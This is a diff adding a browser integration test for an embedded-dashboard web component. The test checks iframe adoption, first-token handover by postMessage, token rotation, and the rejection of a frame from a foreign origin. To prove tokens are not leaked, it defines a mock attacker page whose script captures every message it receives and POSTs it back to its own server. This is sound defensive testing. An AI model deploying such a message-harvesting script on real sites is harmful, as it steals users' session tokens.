@@ -1,0 +1,169 @@
+import { readFileSync } from 'node:fs';
+import { createServer, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { fileURLToPath } from 'node:url';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { SignJWT } from 'jose';
+import { UserGroupClient } from '@embedded-dashboard/client';
+import { startEmulator, type RunningEmulator } from '@embedded-dashboard/emulator';
+import { createBffApp, createBffNodeListener, renderDashboardFrame, renderInitialToken } from '@embedded-dashboard/bff';
+import { chromiumTool } from '../support/tools.js';
+import { eventually, openBrowser } from './harness.js';
+
+/*
+ * The dashboard iframe rendered by the server into <embedded-dashboard> (renderDashboardFrame)
+ * and adopted by the element from the shipped standalone bundle: one document load, the first
+ * token (renderInitialToken) handed over by message, rotation as usual; a frame of another origin
+ * is removed, never handed a token.
+ */
+const tool = chromiumTool();
+const SECRET = 'adopt-frame-test-session-secret-0123456789';
+const DASHBOARD = 'sales-overview';
+const ELEMENT_SCRIPT = fileURLToPath(new URL('../../packages/element/dist/standalone/embedded-dashboard.js', import.meta.url));
+
+const listen = async (server: Server): Promise<string> => {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+};
+
+describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by the element (Chromium)', () => {
+  let browser: Browser;
+  let emulator: RunningEmulator;
+  let client: UserGroupClient;
+  let pages: Server;
+  let evil: Server;
+  let url: string;
+  let evilUrl: string;
+  /** What the frame of another origin was sent by the page. */
+  const evilReceived: string[] = [];
+
+  beforeAll(async () => {
+    const [emu, chromium] = await Promise.all([startEmulator({ port: 0, dashboardRefreshSeconds: 1 }), openBrowser(tool.path)]);
+    emulator = emu;
+    browser = chromium;
+    client = new UserGroupClient({ baseUrl: emulator.url, apiToken: 'dev-customer-key' });
+    const app = createBffApp({ upstream: client, session: { secret: SECRET, cookie: 'sid' }, logger: { debug() {}, info() {}, warn() {}, error() {} } });
+    const bff = createBffNodeListener(app);
+    const element = readFileSync(ELEMENT_SCRIPT);
+    // A page of another origin posing as the dashboard: says ready to anyone, reports what it gets.
+    evil = createServer((req, res) => {
+      if (req.method === 'POST') {
+        let body = '';
+        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
+        req.on('end', () => {
+          evilReceived.push(body);
+          res.end();
+        });
+        return;
+      }
+      res.writeHead(200, { 'content-type': 'text/html' }).end(
+        `<!doctype html><title>evil</title><script>addEventListener('message',(e)=>fetch('/got',{method:'POST',body:JSON.stringify(e.data)}));` +
+          `parent.postMessage({event:'dashboardReadyToLoad',detail:{dashboardId:'${DASHBOARD}'}},'*')</script>`,
+      );
+    });
+    evilUrl = await listen(evil);
+    const srcTemplate = `${emulator.url}/iframe/{dashboard}`;
+    pages = createServer((req, res: ServerResponse) => {
+      const path = new URL(req.url ?? '/', 'http://x');
+      if (path.pathname.startsWith('/embed/')) return void bff(req, res);
+      if (path.pathname === '/element.js') return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(element);
+      const mode = path.searchParams.get('frame');
+      const frame =
+        mode === 'evil'
+          ? renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate: `${evilUrl}/iframe/{dashboard}` })
+          : renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate });
+      void (async () => {
+        // The frame goes out at once (its URL needs no token); the first token follows.
+        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'private, no-store' });
+        res.write(
+          `<!doctype html><html><head><title>adopt</title><script type="module" src="/element.js"></script></head><body>` +
+            `<embedded-dashboard dashboard="${DASHBOARD}" src-template="${srcTemplate}">${frame}`,
+        );
+        const first = await renderInitialToken(req, { bff: app });
+        res.end(`${first.html}</embedded-dashboard></body></html>`);
+      })();
+    });
+    url = await listen(pages);
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    pages?.closeAllConnections();
+    evil?.closeAllConnections();
+    await Promise.all([new Promise((resolve) => pages?.close(resolve)), new Promise((resolve) => evil?.close(resolve))]);
+    client?.close();
+    await emulator?.close();
+  });
+
+  async function open(frame: 'ours' | 'evil'): Promise<{ context: BrowserContext; page: Page; documents: string[]; tokenRequests: string[]; jwt: string }> {
+    const context = await browser.newContext();
+    const now = Math.floor(Date.now() / 1000);
+    const jwt = await new SignJWT({ org_id: 'acme', org_name: 'Acme Corp', embed_properties: { region: 'EU' }, exp: now + 600 })
+      .setProtectedHeader({ alg: 'HS256' })
+      .setIssuedAt(now)
+      .sign(new TextEncoder().encode(SECRET));
+    await context.addCookies([{ name: 'sid', value: jwt, url }]);
+    const page = await context.newPage();
+    const documents: string[] = [];
+    const tokenRequests: string[] = [];
+    page.on('request', (request) => {
+      if (request.resourceType() === 'document' && request.frame() !== page.mainFrame()) documents.push(request.url());
+      if (request.url().includes('/embed/token')) tokenRequests.push(request.url());
+    });
+    await page.goto(`${url}/?frame=${frame}`);
+    return { context, page, documents, tokenRequests, jwt };
+  }
+
+  const dashboardFrame = (page: Page) => {
+    const frame = page.frames().find((f) => f.url().startsWith(`${emulator.url}/iframe/`));
+    if (!frame) throw new Error('no dashboard frame');
+    return frame;
+  };
+  const dashboard = (page: Page) =>
+    dashboardFrame(page).evaluate(() => ({ state: document.body.dataset.state, generation: Number(document.body.dataset.tokenGeneration) }));
+
+  it('loads the dashboard in the frame the server rendered: one document request, the first token by message, rotation as usual', async () => {
+    const { context, page, documents, tokenRequests, jwt } = await open('ours');
+    try {
+      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
+      expect((await dashboard(page)).state).toBe('ready');
+      expect(documents).toEqual([`${emulator.url}/iframe/${DASHBOARD}`]);
+      expect(tokenRequests).toEqual([]); // the first token came with the page
+      // The frame is the server's light-DOM child, shown through the slot; the element made none.
+      expect(await page.locator('embedded-dashboard > iframe[slot=frame]').count()).toBe(1);
+      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelectorAll('iframe').length)).toBe(0);
+      const box = await page.locator('embedded-dashboard > iframe').boundingBox();
+      expect(box!.height).toBeGreaterThan(100);
+
+      // Rotation: the vendor expires the token; the dashboard says so; the element rotates and
+      // posts the new token to the same frame (no new document).
+      const answer = await fetch(`${url}/embed/token`, { method: 'POST', headers: { cookie: `sid=${jwt}`, 'content-type': 'application/json' }, body: '{}' });
+      const { token } = (await answer.json()) as { token: string };
+      expect(emulator.emulator.expireToken(token)).toBe(true);
+      await eventually('the dashboard to run on a second token', async () => {
+        const now = await dashboard(page);
+        return now.generation === 2 && now.state === 'ready';
+      });
+      expect(tokenRequests.map((request) => new URL(request).pathname)).toEqual(['/embed/token/rotate']);
+      expect(documents).toHaveLength(1);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('removes a server-rendered frame of another origin: the element loads its own, and that frame is never sent a token', async () => {
+    evilReceived.length = 0;
+    const { context, page, documents } = await open('evil');
+    try {
+      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
+      expect(await page.locator('embedded-dashboard > iframe').count()).toBe(0);
+      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelector('iframe')!.src)).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
+      expect((await dashboard(page)).state).toBe('ready');
+      expect(documents[documents.length - 1]).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
+      expect(evilReceived).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+});
